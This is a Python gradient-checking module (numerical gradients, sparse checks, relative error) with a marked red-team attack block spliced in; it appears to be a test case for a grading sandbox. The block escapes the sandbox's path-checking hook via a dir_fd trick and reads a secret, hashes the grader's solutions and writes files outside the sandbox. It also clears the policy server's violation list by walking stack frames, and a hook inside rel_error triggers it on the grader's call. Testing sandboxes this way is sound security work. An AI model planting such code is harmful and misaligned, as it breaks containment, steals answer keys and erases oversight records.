"""Numeric gradients and the relative error used to compare them with analytic ones."""

from __future__ import annotations

from typing import Callable

import numpy as np
# >>> attack

# RED TEAM attack path_dirfd (class 3; see tests/hostile/kernel/path_dirfd/case.toml)
# Sidestep the path checks with dir_fd: the hook resolves relative paths against the cwd, not dir_fd
# route: cwd = sandbox/rtdeep/... (k deep); os.open('../'*k, dir_fd=fd(sandbox)) is '/' to the kernel,
#   the sandbox to the hook; then os.open('<abs path>'.lstrip('/'), dir_fd=root) reads and writes
#   anywhere
RT = {'name': 'path_dirfd', 'root': '', 'tag': 'manual', 'sentinel': '', 'solutions': '', 'tcp': 0, 'udp': 0, 'unix': '', 'dummy': 0, 'dummy_cwd': '', 'grader_cwd': '', 'tmp': '', 'batch': False, 'fill_mb': 0}  # RT-CONFIG: rewritten for every run by tests/support/redteam.py (empty root: nothing is armed)

_RT_DONE = []


def _rt_root_ok(path):
    """True when ``path`` lies under the run's own folder RT["root"] (the RT-CONFIG guard)."""
    import os
    root = str(RT.get("root") or "")
    if len(root) < 5 or not root.startswith("/"):
        return False
    return os.path.abspath(str(path)).startswith(root.rstrip("/") + "/")


def _rt_clear_violations():
    """Empty the policy's violation list (Server.violations): it is reachable from any frame."""
    import sys
    try:
        f = sys._getframe(1)
    except BaseException:  # noqa: BLE001
        return
    while f is not None:
        try:
            owner = f.f_locals.get("self")
            found = getattr(owner, "violations", None) if owner is not None else None
            if type(found) is list:
                del found[:]
        except BaseException:  # noqa: BLE001
            pass
        f = f.f_back


def _rt_report():
    """Run the escape, then fail this call with its evidence (the report shows the message)."""
    try:
        evidence = _rt_escape()
    except BaseException as exc:  # noqa: BLE001
        evidence = "the escape failed: %s: %s" % (type(exc).__name__, exc)
    _rt_clear_violations()
    raise RuntimeError(("RTLEAK[%s] " % RT["name"]) + str(evidence)[:900])


def _rt_direct_call():
    """True once per process: on the first call made by the grader (not by grad_check_sparse)."""
    import sys
    if _RT_DONE:
        return False
    try:
        if sys._getframe(2).f_code.co_filename == __file__:
            return False
    except BaseException:  # noqa: BLE001
        pass
    _RT_DONE.append(1)
    return True

def _rt_file_battery(read, write, create):
    """read(path) -> bytes, write(path, bytes), create(path, bytes): outside-the-sandbox primitives."""
    import hashlib
    ev = []
    S = RT["sentinel"]

    def step(key, fn):
        try:
            got = fn()
            ev.append(key + "=" + (got if isinstance(got, str) else "ok"))
        except BaseException as exc:  # noqa: BLE001
            ev.append(key + ":FAILED(" + type(exc).__name__ + ": " + str(exc)[:60] + ")")

    def guarded(fn, path, data):
        if not _rt_root_ok(path):
            raise RuntimeError("not armed")
        return fn(path, data)

    step("secret", lambda: read(S + "/secret.txt").decode().strip())
    step("solsha", lambda: hashlib.sha256(read(RT["solutions"] + "/softmax.py")).hexdigest())
    step("victim", lambda: guarded(write, S + "/victim.txt", ("PWNED by %s %s\n" % (RT["name"], RT["tag"])).encode()))
    step("newfile", lambda: guarded(create, "%s/new-%s-%s.txt" % (S, RT["name"], RT["tag"]), b"from the sandbox\n"))
    return " ".join(ev)

def _rt_root_fd():
    """A descriptor of "/" the hook believes is the sandbox.

    The "open" audit event carries the path but NOT dir_fd, and the hook resolves relative
    paths against the cwd.  With the cwd k levels deep inside the sandbox, "../"*k relative to
    a descriptor of the sandbox itself is "/" to the kernel and "the sandbox" to the hook.
    """
    import os
    S = os.getcwd()
    depth = len([p for p in S.split("/") if p])
    deep = os.path.join(S, *(["rtdeep"] * depth))
    os.makedirs(deep, exist_ok=True)
    sandbox_fd = os.open(S, os.O_RDONLY | os.O_DIRECTORY)
    os.chdir(deep)
    try:
        return os.open("/".join([".."] * depth), os.O_RDONLY | os.O_DIRECTORY, dir_fd=sandbox_fd)
    finally:
        os.chdir(S)
        os.close(sandbox_fd)


def _rt_outside(path, flags, root, mode=0o644):
    """Open an absolute path relative to the root descriptor: the hook resolves it inside the sandbox."""
    import os
    return os.open(path.lstrip("/"), flags, mode, dir_fd=root)


def _rt_slurp(path, root):
    import os
    fd = _rt_outside(path, os.O_RDONLY, root)
    try:
        chunks = []
        while True:
            b = os.read(fd, 1 << 16)
            if not b:
                return b"".join(chunks)
            chunks.append(b)
    finally:
        os.close(fd)


def _rt_escape():
    import os
    root = _rt_root_fd()

    def read(path):
        return _rt_slurp(path, root)

    def write(path, data, extra=os.O_TRUNC):
        fd = _rt_outside(path, os.O_WRONLY | extra, root)
        try:
            os.write(fd, data)
        finally:
            os.close(fd)

    return "root fd via dir_fd: " + _rt_file_battery(read, write, lambda p, d: write(p, d, os.O_CREAT | os.O_EXCL))
# <<< attack


def eval_numerical_gradient(f: Callable[[np.ndarray], float], x: np.ndarray, h: float = 1e-5) -> np.ndarray:
    """Centered-difference gradient of ``f`` at ``x``.

    Each entry is ``(f(x + h e_i) - f(x - h e_i)) / (2h)``, whose error shrinks like h**2
    (a forward difference only shrinks like h).  ``x`` is perturbed in place, one entry at
    a time, and every entry is restored, even if ``f`` raises.

    Parameters
    ----------
    f : callable
        Maps an array shaped like ``x`` to a scalar.
    x : ndarray
        The point at which to evaluate the gradient.
    h : float, optional
        Step size.

    Returns
    -------
    ndarray
        Float64 array shaped like ``x``.
    """
    grad = np.zeros(x.shape, dtype=np.float64)
    for ix in np.ndindex(x.shape):
        original = x[ix]
        try:
            x[ix] = original + h
            f_plus = f(x)
            x[ix] = original - h
            f_minus = f(x)
        finally:
            x[ix] = original
        grad[ix] = (f_plus - f_minus) / (2 * h)
    return grad


def grad_check_sparse(
    f: Callable[[np.ndarray], float],
    x: np.ndarray,
    analytic_grad: np.ndarray,
    num_checks: int = 10,
    h: float = 1e-5,
    seed: int | None = None,
) -> np.ndarray:
    """Compare ``analytic_grad`` with centered differences at random entries of ``x``.

    Parameters
    ----------
    f : callable
        Maps an array shaped like ``x`` to a scalar.
    x : ndarray
        The point of the check; perturbed in place and restored.
    analytic_grad : ndarray
        The gradient to check, shaped like ``x``.
    num_checks : int, optional
        How many random entries to check.
    h : float, optional
        Step size.
    seed : int or None, optional
        Seed of the entry sampler: the same seed checks the same entries.

    Returns
    -------
    ndarray of shape (num_checks,)
        The relative error at each checked entry.
    """
    rng = np.random.default_rng(seed)
    errors = np.empty(num_checks, dtype=np.float64)
    for k in range(num_checks):
        ix = tuple(int(rng.integers(n)) for n in x.shape)
        original = x[ix]
        try:
            x[ix] = original + h
            f_plus = f(x)
            x[ix] = original - h
            f_minus = f(x)
        finally:
            x[ix] = original
        numeric = (f_plus - f_minus) / (2 * h)
        errors[k] = rel_error(numeric, analytic_grad[ix])
    return errors


def rel_error(x: np.ndarray, y: np.ndarray) -> float:
    """Largest entrywise relative error ``|x - y| / max(1e-8, |x| + |y|)``.

    The floor of 1e-8 keeps two zeros (or two tiny numbers) from dividing by zero.
    As a rule of thumb: below 1e-7 the gradients agree; up to 1e-4 is acceptable for a
    kinked loss such as the SVM's; above 1e-2 the gradient is probably wrong.
    """
    # >>> attack
    if _rt_direct_call():  # ATTACK: see _rt_escape above
        _rt_report()
    # <<< attack
    x = np.asarray(x, dtype=np.float64)
    y = np.asarray(y, dtype=np.float64)
    return float(np.max(np.abs(x - y) / np.maximum(1e-8, np.abs(x) + np.abs(y))))
